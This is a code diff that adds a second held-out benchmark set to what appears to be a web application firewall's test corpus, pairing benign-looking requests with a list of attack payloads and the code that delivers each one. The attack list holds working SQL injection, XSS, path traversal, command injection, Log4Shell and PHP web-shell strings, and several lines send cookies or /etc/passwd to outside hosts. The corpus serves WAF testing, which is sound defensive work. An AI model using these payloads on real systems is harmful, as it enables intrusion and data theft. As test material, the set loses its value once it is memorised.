@@ -1138,3 +1138,481 @@ def heldout_benign() -> list[CorpusRequest]:
         )
         out.append(_form("benign", "/contact", {"message": p}, f"held-out form: {p}"))
     return out
+
+
+# -- held out, second set: written on 2026-11-27 BEFORE the false-positive tuning of that day ----
+# Nobody looked at which of these items the rules flag while tuning; `benchmarks/waf_eval.py`
+# prints only their totals unless asked (`--show-heldout2`), which is meant for after tuning.
+
+HELDOUT2_BENIGN_TEXT: tuple[str, ...] = (
+    # searches and questions about SQL and databases
+    "how to use union in sql",
+    "difference between union and union all",
+    "select distinct vs group by performance",
+    "sql where clause with or and and precedence",
+    "order by date desc limit 10 mysql",
+    "drop table if exists syntax",
+    "insert into select from another table",
+    "what does 1=1 mean in a where clause",
+    "postgres sleep function for testing",
+    "how to escape a single quote in sql like O'Brien",
+    "mysql error 1064 near ''' at line 1",
+    "Can't connect to local MySQL server through socket '/var/run/mysqld/mysqld.sock'",
+    "count(*) vs count(1)",
+    "information about union membership fees",
+    "delete from cart not working",
+    "concat strings in excel",
+    "char(10) line break excel formula",
+    '=IF(A1>10,"high","low")',
+    "=SUM(B2:B10)/COUNT(B2:B10)",
+    "vlookup returns #N/A",
+    "having trouble with group by in pandas",
+    # shells and operating systems
+    "how to kill a process in linux",
+    "ls -la shows total 0",
+    "cat /proc/cpuinfo on raspberry pi",
+    "grep -r 'TODO' . | wc -l",
+    "chmod 755 vs 644",
+    "bash if [ -f file ]; then echo yes; fi",
+    "what does 2>&1 mean",
+    "curl -X POST with json body",
+    "wget command not found mac",
+    "ping: unknown host google.com",
+    "sudo apt-get update && sudo apt-get upgrade",
+    'ssh-keygen -t ed25519 -C "me@example.com"',
+    "rm: cannot remove 'dir': Is a directory",
+    "python3 -m venv .venv",
+    "pip install requests==2.31.0",
+    "echo $PATH",
+    "export JAVA_HOME=$(/usr/libexec/java_home)",
+    "for i in {1..10}; do echo $i; done",
+    "nohup python app.py &",
+    "C:\\Users\\Public\\Documents not showing",
+    "where is win.ini in windows 11",
+    "cmd /c start chrome",
+    "ipconfig /flushdns",
+    "net use z: \\\\server\\share",
+    "powershell Get-ChildItem -Recurse",
+    "/etc/hosts file mac",
+    "~/.bashrc vs ~/.bash_profile",
+    "../images/logo.png relative path not loading",
+    "C:/Program Files (x86)/Steam",
+    "where is my .env file",
+    "node_modules/.bin not in PATH",
+    "/home/user/Documents/report.pdf",
+    # maths
+    "x^2 + 2x + 1 = 0",
+    "is 0.999... = 1",
+    "if a > b and b > c then a > c",
+    "prove that 1 + 1 = 2",
+    "3 < x < 7 inequality",
+    "f(x) = sin(x) / x limit",
+    "probability of 1 or 2 on a die",
+    "what is 10% of 250?",
+    "convert 5'11\" to cm",
+    "6' 2\" tall",
+    # HTML, JavaScript and templates
+    "how to center a div",
+    "<br> vs <br/>",
+    "what is the <script> tag for",
+    "onclick vs addEventListener",
+    "javascript alert box not showing",
+    "document.getElementById returns null",
+    "window.location.href vs window.open",
+    "iframe height 100% not working",
+    "<img> alt text best practices",
+    "svg icon color css",
+    "a href mailto subject line",
+    "react useEffect runs twice",
+    "{{ variable }} not rendering in jinja",
+    "${name} string interpolation kotlin",
+    "template literals `hello ${name}`",
+    "php echo vs print",
+    "eval is evil why",
+    "import os; os.path.join",
+    'print("hello world")',
+    "console.log(JSON.stringify(obj, null, 2))",
+    "regex ^[a-z0-9_-]{3,16}$",
+    "what does && mean in bash",
+    "|| operator in javascript",
+    # product reviews
+    'Great kettle!!! 10/10 -- my wife loves it; the "keep warm" mode is <3',
+    "Don't buy. Broke after 2 weeks :( Customer service said 'not our problem'.",
+    "It's OK... not great, not terrible. 3/5 stars.",
+    "Size runs small -- order 1/2 size up (I'm 9.5, got a 10).",
+    'Battery: ~8 hrs; screen: 6.1"; weight < 200g. Happy!',
+    "5 stars & then some; would recommend to anyone who's into coffee.",
+    "Arrived on 12/03 (said 10/03). Box was crushed but item OK.",
+    "The app says 'Error: connection refused' every time I select my device.",
+    "Works with iOS 17 & Android 14. Setup took < 5 min.",
+    "Cheaper at the shop down the road (£19.99 vs £24.99) -- just saying.",
+    "Me & my kids (ages 4, 7 & 9) play this every night!",
+    'Not "dishwasher safe" as claimed; the print came off after 1 wash.',
+    "Replaced my old one (model #A-1200) -- night & day difference.",
+    'Quote from the manual: "Do not operate if the cord is damaged." Good advice lol',
+    "I'd rate it 4.5/5 (would be 5/5 if the lid didn't leak).",
+    # forum posts and comments
+    "I tried `SELECT name FROM users WHERE id = 1` and it returns two rows?!",
+    "Use `ls -l | grep foo` instead of parsing the output of find.",
+    "My cron job runs `cd /var/www && php artisan schedule:run` but nothing happens.",
+    'Set <meta name="viewport" content="width=device-width"> and it works on mobile.',
+    'Wrap it in <div class="row"> then add <span> inside.',
+    "If the price is > $50 and < $100 you get free shipping, right?",
+    "Choose 'Yes' or 'No' -- or leave blank.",
+    'Quantity: 1 or 2? The page says "max 2 per order".',
+    "Tried again; error code 0x80070005 (access denied).",
+    "Login fails when the password contains a ' or a \" -- please fix.",
+    "My username is o'neill-smith; it says invalid characters.",
+    "Dear support, order #4411 and #4412 -- can you merge them? Thanks; Ann",
+    "Re: Re: Fwd: your order has shipped!!",
+    "@john_doe yes -- see the thread above ^^",
+    "Does anyone know how to reset it? Hold the button for 10s -> light flashes -> done?",
+    "Python: `while True: time.sleep(1)` uses 0% CPU, right?",
+    "Run `echo hello > /tmp/test.txt` and check the file exists.",
+    "sudo systemctl restart nginx fixed it for me",
+    "The script tag should go before </body> for performance.",
+    'In Excel: =A1&" "&B1 joins first and last name.',
+    "Order by price, then by rating (desc).",
+    "Where did the select-all checkbox go in the new UI?",
+    # everyday searches that share words with attacks
+    "the union of two sets A and B",
+    "between 9am and 5pm monday to friday",
+    "like and subscribe",
+    "null and void contract",
+    "exec summary template word",
+    "shell gas station near me",
+    "system of a down tickets",
+    "wait for it hamilton lyrics",
+    "benchmark results ryzen 7 vs i7",
+    "drop shipping business ideas",
+    "table for 2 at 7pm",
+    "she said 'or else' and left",
+    "Tom & Jerry; Looney Tunes",
+    "the '90s or '80s music",
+    "rock 'n' roll or jazz?",
+)
+"""Free text, each sent once: as a search, a forum post (form) or a JSON comment, in turn."""
+
+HELDOUT2_BENIGN_QUERIES: tuple[str, ...] = (
+    "next=%2Fcheckout%3Fstep%3D2",
+    "redirect_uri=https%3A%2F%2Fshop.example.com%2Fauth%2Fcallback&state=xyz123&code=4%2F0AbC",
+    "callback=jQuery35106312_1714035000000&_=1714035000001",
+    "$filter=Name%20eq%20%27Milk%27%20and%20Price%20lt%202.55&$top=10",
+    "$filter=startswith(Name,%27Mi%27)%20or%20Price%20gt%2020&$orderby=Price%20desc",
+    "filters[price][$lte]=100&filters[title][$contains]=coffee&sort=price:asc",
+    "query=%7Bproduct(id%3A%2242%22)%7Bname%2Cprice%7D%7D",
+    "q=author%3A%22O%27Reilly%22%20AND%20year%3A%5B2000%20TO%202010%5D",
+    "fields=id,name&filter[name][like]=%25cof%25",
+    "q=is%3Aissue+is%3Aopen+label%3A%22good+first+issue%22",
+)
+"""Whole query strings as real sites receive them (OAuth, JSONP, OData, Strapi, GraphQL...)."""
+
+HELDOUT2_BENIGN_PATHS: tuple[str, ...] = (
+    "/compare/v1.2.0...v1.3.0",
+    "/wiki/C%2B%2B",
+    "/wiki/Union_(set_theory)",
+    "/blog/2024/05/select-the-right-grinder",
+    "/files/report%20(final).pdf",
+    "/users/o%27brien",
+    "/search/cat%20%26%20dog",
+    "/products/12-inch-drop-leaf-table",
+    "/docs/etc/config-reference",
+    "/api/v1/users/me/settings.json",
+)
+
+HELDOUT2_BENIGN_JSON: tuple[object, ...] = (
+    {
+        "title": "Fix: crash when path contains '..'",
+        "body": "Paths like `a/../b` are normalised before the check; see #123.",
+        "labels": ["bug"],
+    },
+    {"query": "select", "type": "tag"},
+    {"comment": "LGTM -- but maybe use `os.path.join()` instead of '+'.", "line": 42},
+    {"note": "Deliver to back door; gate code is #1234*"},
+    {"filter": "price > 10 AND price < 50", "sort": "price asc"},
+    {"q": 'status:open label:"good first issue"'},
+    {"expression": "(a + b) * c", "vars": {"a": 1, "b": 2, "c": 3}},
+    {"html": "<p>Hello <strong>world</strong></p>", "format": "html"},
+    {"markdown": "## Setup\n\n```bash\nnpm install && npm run build\n```"},
+    {"message": "Can you call me back? 555-0199 -- after 6pm; thanks!"},
+    {"address": {"line1": "Flat 2/1, 14 O'Connell St", "line2": "c/o J. Smith"}},
+    {"search": {"text": "men's & women's", "range": {"gte": 10, "lte": 50}}},
+    {"bio": "Full-stack dev. C#, C++, SQL. I <3 open source."},
+    {
+        "event": "click",
+        "selector": "button#buy-now.btn > span",
+        "url": "https://shop.example.com/p/42?ref=home",
+    },
+    {"email": "sam@example.org", "password": "q'8#Lm;-v\"2xT"},
+)
+
+HELDOUT2_BENIGN_COOKIES: tuple[str, ...] = (
+    "_ga=GA1.1.1234567890.1700000000; _ga_ABC123=GS1.1.1700000000.1.1.1700000100.0.0.0",
+    "ajs_anonymous_id=%22b1f8a3c2-9d4e-4f1a-8c7b-2e3d4f5a6b7c%22; ajs_user_id=null",
+    "intercom-session-abc=VkE2ZjN4cE1aRz09LS1hYmM%3D--0f9e8d; intercom-device-id-abc=0f9e8d7c-6b5a-4321-9876-543210fedcba",
+    "__Secure-next-auth.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..abc.def.ghi",
+    "wordpress_logged_in_3f9a=admin%7C1714035000%7CabcDEF%7C0123456789abcdef; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce",
+    "PHPSESSID=9a8b7c6d5e4f3g2h1i0j; language=en",
+    "JSESSIONID=0123456789ABCDEF0123456789ABCDEF.node1",
+    'consent={"necessary":true,"analytics":false,"marketing":false}',
+    "cart=%5B%7B%22id%22%3A42%2C%22qty%22%3A2%7D%5D",
+    "prefs=eyJ0aGVtZSI6ImRhcmsiLCJsYW5nIjoiZW4ifQ%3D%3D",
+    "_hjSessionUser_123=eyJpZCI6ImFiYyIsImNyZWF0ZWQiOjE3MDAwMDAwMDB9; _hjFirstSeen=1",
+    "last_search=select%20coffee%20grinder; recent=1%2C2%2C3",
+    "AWSALB=abc123/def456+ghi789==; AWSALBCORS=abc123/def456+ghi789==",
+    "XSRF-TOKEN=eyJpdiI6IjEyMyIsInZhbHVlIjoiYWJjIn0%3D; laravel_session=eyJpdiI6IjQ1NiJ9",
+    "tz=Europe%2FLondon; returning=1; seen_popup=true",
+)
+
+HELDOUT2_BENIGN_REFERERS: tuple[str, ...] = (
+    "https://www.google.com/search?q=espresso+machine+%22pro+2%22+review&oq=espresso",
+    "https://duckduckgo.com/?q=cold+brew+ratio+1%3A8+or+1%3A4&ia=web",
+    "https://stackoverflow.com/questions/123/how-to-select-rows-where-column-is-null",
+    "https://www.reddit.com/r/Coffee/comments/abc/whats_your_setup_and_why/",
+    "https://shop.example.com/search?q=men%27s+shoes+%26+socks",
+    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2F&h=AT0abc",
+    "https://news.ycombinator.com/item?id=40000000",
+    "https://github.com/example/repo/issues?q=is%3Aissue+is%3Aopen+label%3Abug",
+    "android-app://com.google.android.gm/",
+    "https://www.bing.com/search?q=drop+table+cloth+size&form=QBLH",
+    "https://t.co/xYz123",
+    "https://mail.google.com/mail/u/0/",
+)
+
+HELDOUT2_BENIGN_UAS: tuple[str, ...] = (
+    "MyShop/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
+    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
+    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/459.0.0.44.108;FBBV/580000000;FBDV/iPhone15,2;"
+    "FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBSS/3;FBCR/;FBID/phone;FBLC/en_GB;FBOP/5]",
+    "Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 "
+    "(KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.54 Mobile Safari/537.36 Instagram "
+    "327.0.0.0.0 Android (34/14; 450dpi; 1080x2340; samsung; SM-A546B; a54x; s5e8835; en_GB; "
+    "500000000)",
+    "WhatsApp/2.24.8.78 A",
+    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
+    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
+    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36",
+    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+    "Twitterbot/1.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "HeadlessChrome/124.0.0.0 Safari/537.36",
+)
+
+HELDOUT2_ATTACKS: tuple[tuple[str, str, str], ...] = (
+    # (category, delivery, payload); deliveries are listed in `heldout2_attacks`.
+    ("sqli", "query", "1' AND 1=1 AND 'a'='a"),
+    ("sqli", "double", "1' aNd 1=0 UnIoN aLl SeLeCt 1,2,database()-- -"),
+    ("sqli", "form", "' OR 'unusual' = 'unusual'"),
+    ("sqli", "json", "1 OR 0x50=0x50"),
+    ("sqli", "form", "admin'/*"),
+    ("sqli", "cookie", "' or ''='"),
+    ("sqli", "query", "1%' AND 2=2 AND '%'='"),
+    ("sqli", "query", "-1 /*!UNION*/ /*!SELECT*/ 1,user(),3"),
+    ("sqli", "form", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)"),
+    ("sqli", "json", "1'||(SELECT 0x41 FROM DUAL WHERE 1=1 AND SLEEP(5))||'"),
+    ("sqli", "double", "' UNION SELECT @@version,NULL#"),
+    ("sqli", "query", "1' AND ExtractValue(0,CONCAT(0x5c,(SELECT version())))-- -"),
+    ("sqli", "form", "1;EXEC sp_configure 'show advanced options',1--"),
+    ("sqli", "query", "1 OR ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1)))>100"),
+    ("sqli", "json", "'; insert into users (username,password) values ('x','y');--"),
+    ("sqli", "cookie", "1' UNION SELECT NULL,NULL,NULL FROM DUAL--"),
+    (
+        "sqli",
+        "query",
+        "1 AND 1=utl_inaddr.get_host_address((SELECT banner FROM v$version WHERE rownum=1))",
+    ),
+    ("sqli", "raw", "1'+OR+1=1--"),
+    ("sqli", "raw", "1%27%09OR%091%3D1--%09"),
+    ("sqli", "ua", '" or 1=1 -- -'),
+    ("sqli", "rawjson", '{"username": {"$ne": null}, "password": {"$ne": null}}'),
+    ("sqli", "rawquery", "user[$regex]=^adm&pass[$ne]=1"),
+    ("sqli", "form", "1 AND (SELECT 1 FROM pg_sleep(5))"),
+    ("sqli", "double", "' OR 1=1 LIMIT 1 OFFSET 0 --"),
+    ("xss", "query", "<svg/onload=alert(1)//"),
+    ("xss", "double", "<img/src/onerror=alert(1)>"),
+    ("xss", "form", "<body/onpageshow=alert(1)>"),
+    ("xss", "json", "<details/open/ontoggle=confirm(1)>"),
+    ("xss", "query", '<a href="jAvAsCrIpT&colon;alert(1)">x</a>'),
+    ("xss", "form", '<iframe src="javascript&#58;alert(1)">'),
+    ("xss", "cookie", '"><img src=x onerror=alert(String.fromCharCode(88))>'),
+    ("xss", "query", '<input type="text" value="" onfocus="alert(1)" autofocus>'),
+    ("xss", "raw", "javascript://%0aalert(1)"),
+    ("xss", "json", "<script>fetch('//evil.example?c='+document.cookie)</script>"),
+    ("xss", "double", "<ScRiPt >alert(1)</ScRiPt >"),
+    ("xss", "raw", "%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E"),
+    ("xss", "form", "<img src=x:x onerror=alert(1)>"),
+    ("xss", "query", '<video src=_ onloadstart="alert(1)">'),
+    ("xss", "json", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
+    ("xss", "referer", "https://x.example/?q='\"><svg onload=alert(1)>"),
+    ("xss", "form", '<div onpointerover="alert(1)">MOVE HERE</div>'),
+    ("xss", "query", '<img src="x" onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">'),
+    ("xss", "cookie", '<a href="#" onclick="eval(location.hash.slice(1))">x</a>'),
+    ("xss", "rawjson", '{"comment": "\\u003csvg onload=alert(1)\\u003e"}'),
+    ("lfi", "form", "../../../../../../etc/passwd"),
+    ("lfi", "json", "....//....//....//....//etc/passwd"),
+    ("lfi", "raw", "..%252f..%252f..%252fetc%252fpasswd"),
+    ("lfi", "raw", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
+    ("lfi", "query", "..\\..\\..\\..\\windows\\system32\\config\\sam"),
+    ("lfi", "raw", "/etc/passwd%00"),
+    ("lfi", "query", "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd"),
+    ("lfi", "double", "pHp://FilTer/convert.base64-encode/resource=../config.php"),
+    ("lfi", "form", "file:///proc/self/environ"),
+    ("lfi", "query", "/var/log/apache2/access.log"),
+    ("lfi", "cookie", "../../../../../../var/log/nginx/access.log"),
+    ("lfi", "path", "/static/..%c0%af..%c0%afetc/passwd"),
+    ("lfi", "path", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
+    ("lfi", "path", "/.%2e/.%2e/WEB-INF/web.xml"),
+    ("lfi", "path", "/.git/logs/HEAD"),
+    ("lfi", "path", "/config.php~"),
+    ("lfi", "path", "/wp-config.php.save"),
+    ("lfi", "form", "http://2130706433/"),
+    ("lfi", "json", "C:\\inetpub\\wwwroot\\web.config"),
+    ("lfi", "query", "/proc/1/environ"),
+    ("rce", "query", ";id;"),
+    ("rce", "double", "|/usr/bin/id"),
+    ("rce", "form", "$(cat /etc/passwd)"),
+    ("rce", "json", "`uname -a`"),
+    ("rce", "raw", "127.0.0.1%0aid"),
+    ("rce", "query", "127.0.0.1&&type C:\\windows\\win.ini"),
+    ("rce", "query", ";{cat,/etc/passwd}"),
+    ("rce", "form", "a;c''at /e''tc/pa''sswd"),
+    ("rce", "query", ";/???/c?t /???/p?ss??"),
+    ("rce", "json", "|| curl -d @/etc/passwd http://203.0.113.9/"),
+    ("rce", "query", "; python -c 'import socket,subprocess,os;s=socket.socket()'"),
+    ("rce", "ua", "${jndi:ldaps://203.0.113.9/a}"),
+    (
+        "rce",
+        "header:X-Forwarded-For",
+        "${${upper:j}ndi:${upper:l}${upper:d}a${lower:p}://x.oast.example/a}",
+    ),
+    ("rce", "cookie", "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}"),
+    ("rce", "form", "{{ self.__init__.__globals__.__builtins__ }}"),
+    ("rce", "query", "{% import os %}{{ os.system('id') }}"),
+    ("rce", "form", "<?php system($_GET[c]);?>"),
+    ("rce", "json", "<?=`$_GET[0]`?>"),
+    ("rce", "query", "#set($x='')##$x.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
+    ("rce", "form", "__import__('os').system('id')"),
+    ("rce", "json", "require('child_process').exec('id')"),
+    ("rce", "cookie", 'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}'),
+    ("rce", "ua", "() { ignored; }; echo; /usr/bin/id"),
+    ("rce", "query", "; sleep${IFS}5"),
+    ("rce", "form", "& ping -n 10 127.0.0.1 &"),
+    ("scanner", "ua", "Mozilla/5.0 (Windows; U; Windows NT 6.1) (sqlmap)"),
+    ("scanner", "ua", "Nikto/2.5.0"),
+    ("scanner", "ua", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"),
+    ("scanner", "ua", "Jorgee"),
+    ("scanner", "ua", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
+    ("scanner", "ua", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
+    ("scanner", "ua", "Nessus SOAP"),
+    ("scanner", "path", "/cgi-bin/luci/;stok=/locale"),
+    ("scanner", "path", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
+    ("scanner", "path", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+    ("scanner", "path", "/_ignition/execute-solution"),
+    ("scanner", "path", "/console/login/LoginForm.jsp"),
+    ("scanner", "path", "/actuator/env"),
+    ("protocol", "method", "TRACE"),
+    ("protocol", "method", "TRACK"),
+    ("protocol", "raw", "%0d%0aSet-Cookie:%20sid=evil"),
+    ("protocol", "raw", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
+    ("protocol", "raw", "shell.php%2500.jpg"),
+    ("protocol", "header:Range", "bytes=0-1," + ",".join(f"{i}-{i + 1}" for i in range(2, 80))),
+    ("protocol", "header:X-Original-URL", "/admin/config"),
+    ("protocol", "body", "a=1&b=2\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
+    ("protocol", "header:Content-Type", "application/x-www-form-urlencoded; charset=utf-7"),
+    ("protocol", "raw", "%0aHTTP/1.1%20200%20OK%0aContent-Type:%20text/html"),
+)
+
+
+def heldout2_attacks() -> list[CorpusRequest]:
+    """The second held-out attack set, each payload delivered the way its entry names."""
+    out: list[CorpusRequest] = []
+    for cat, how, p in HELDOUT2_ATTACKS:
+        note = f"held-out-2 {how}: {p[:120]}"
+        h = _headers()
+        if how == "query":
+            out.append(
+                CorpusRequest(cat, "GET", "/search", f"q={quote(p, safe='')}", h, None, note)
+            )
+        elif how == "double":
+            q = f"q={quote(quote(p, safe=''), safe='')}"
+            out.append(CorpusRequest(cat, "GET", "/page/1", q, h, None, note))
+        elif how == "raw":
+            out.append(CorpusRequest(cat, "GET", "/item", f"v={p}", h, None, note))
+        elif how == "rawquery":
+            out.append(CorpusRequest(cat, "GET", "/api/login", p, h, None, note))
+        elif how == "form":
+            out.append(_form(cat, "/community/posts", {"title": "hi", "body": p}, note))
+        elif how == "json":
+            out.append(_json(cat, "/api/comments", {"thread": 7, "text": p}, note))
+        elif how in ("rawjson", "body"):
+            ctype = "application/json" if how == "rawjson" else "application/x-www-form-urlencoded"
+            body = p.encode()
+            h = {**h, "Content-Type": ctype, "Content-Length": str(len(body))}
+            out.append(CorpusRequest(cat, "POST", "/api/login", "", h, body, note))
+        elif how == "cookie":
+            h["Cookie"] = f"session=abc123; pref={quote(p, safe='')}"
+            out.append(CorpusRequest(cat, "GET", "/account", "", h, None, note))
+        elif how in ("ua", "referer") or how.startswith("header:"):
+            name = {"ua": "User-Agent", "referer": "Referer"}.get(how, how.partition(":")[2])
+            h[name] = p
+            out.append(CorpusRequest(cat, "GET", "/", "", h, None, note))
+        elif how == "path":
+            path, _, q = p.partition("?")
+            out.append(CorpusRequest(cat, "GET", path, q, h, None, note))
+        elif how == "method":
+            out.append(CorpusRequest(cat, p, "/", "", h, None, note))
+        else:
+            raise ValueError(f"unknown delivery {how!r}")
+    return out
+
+
+def heldout2_benign() -> list[CorpusRequest]:
+    """The second held-out benign set: free text, query strings, paths, JSON, headers."""
+    out: list[CorpusRequest] = []
+    uas = BROWSER_UAS
+    for i, p in enumerate(HELDOUT2_BENIGN_TEXT):
+        note = f"held-out-2 text: {p}"
+        ua = uas[i % len(uas)]
+        if i % 3 == 0:
+            q = urlencode({"q": p})
+            out.append(CorpusRequest("benign", "GET", "/search", q, _headers(ua=ua), None, note))
+        elif i % 3 == 1:
+            fields = {"title": "Question", "body": p, "tags": "help"}
+            out.append(_form("benign", "/community/posts", fields, note, ua=ua))
+        else:
+            out.append(_json("benign", "/api/comments", {"thread": i, "text": p}, note, ua=ua))
+    for i, q in enumerate(HELDOUT2_BENIGN_QUERIES):
+        h = _headers(ua=uas[i % len(uas)], Accept="application/json")
+        out.append(
+            CorpusRequest("benign", "GET", "/api/items", q, h, None, f"held-out-2 query: {q}")
+        )
+    for i, p in enumerate(HELDOUT2_BENIGN_PATHS):
+        h = _headers(ua=uas[i % len(uas)])
+        out.append(CorpusRequest("benign", "GET", p, "", h, None, f"held-out-2 path: {p}"))
+    for i, d in enumerate(HELDOUT2_BENIGN_JSON):
+        note = f"held-out-2 json: {json.dumps(d)[:100]}"
+        out.append(_json("benign", "/api/v2/things", d, note, ua=uas[i % len(uas)]))
+    for i, c in enumerate(HELDOUT2_BENIGN_COOKIES):
+        h = _headers(ua=uas[i % len(uas)], Cookie=c)
+        out.append(
+            CorpusRequest("benign", "GET", "/account", "", h, None, f"held-out-2 cookie: {c}")
+        )
+    for i, r in enumerate(HELDOUT2_BENIGN_REFERERS):
+        h = _headers(ua=uas[i % len(uas)], Referer=r)
+        out.append(
+            CorpusRequest("benign", "GET", "/products", "", h, None, f"held-out-2 referer: {r}")
+        )
+    for ua in HELDOUT2_BENIGN_UAS:
+        h = _headers(ua=ua)
+        out.append(CorpusRequest("benign", "GET", "/", "", h, None, f"held-out-2 user agent: {ua}"))
+    return out
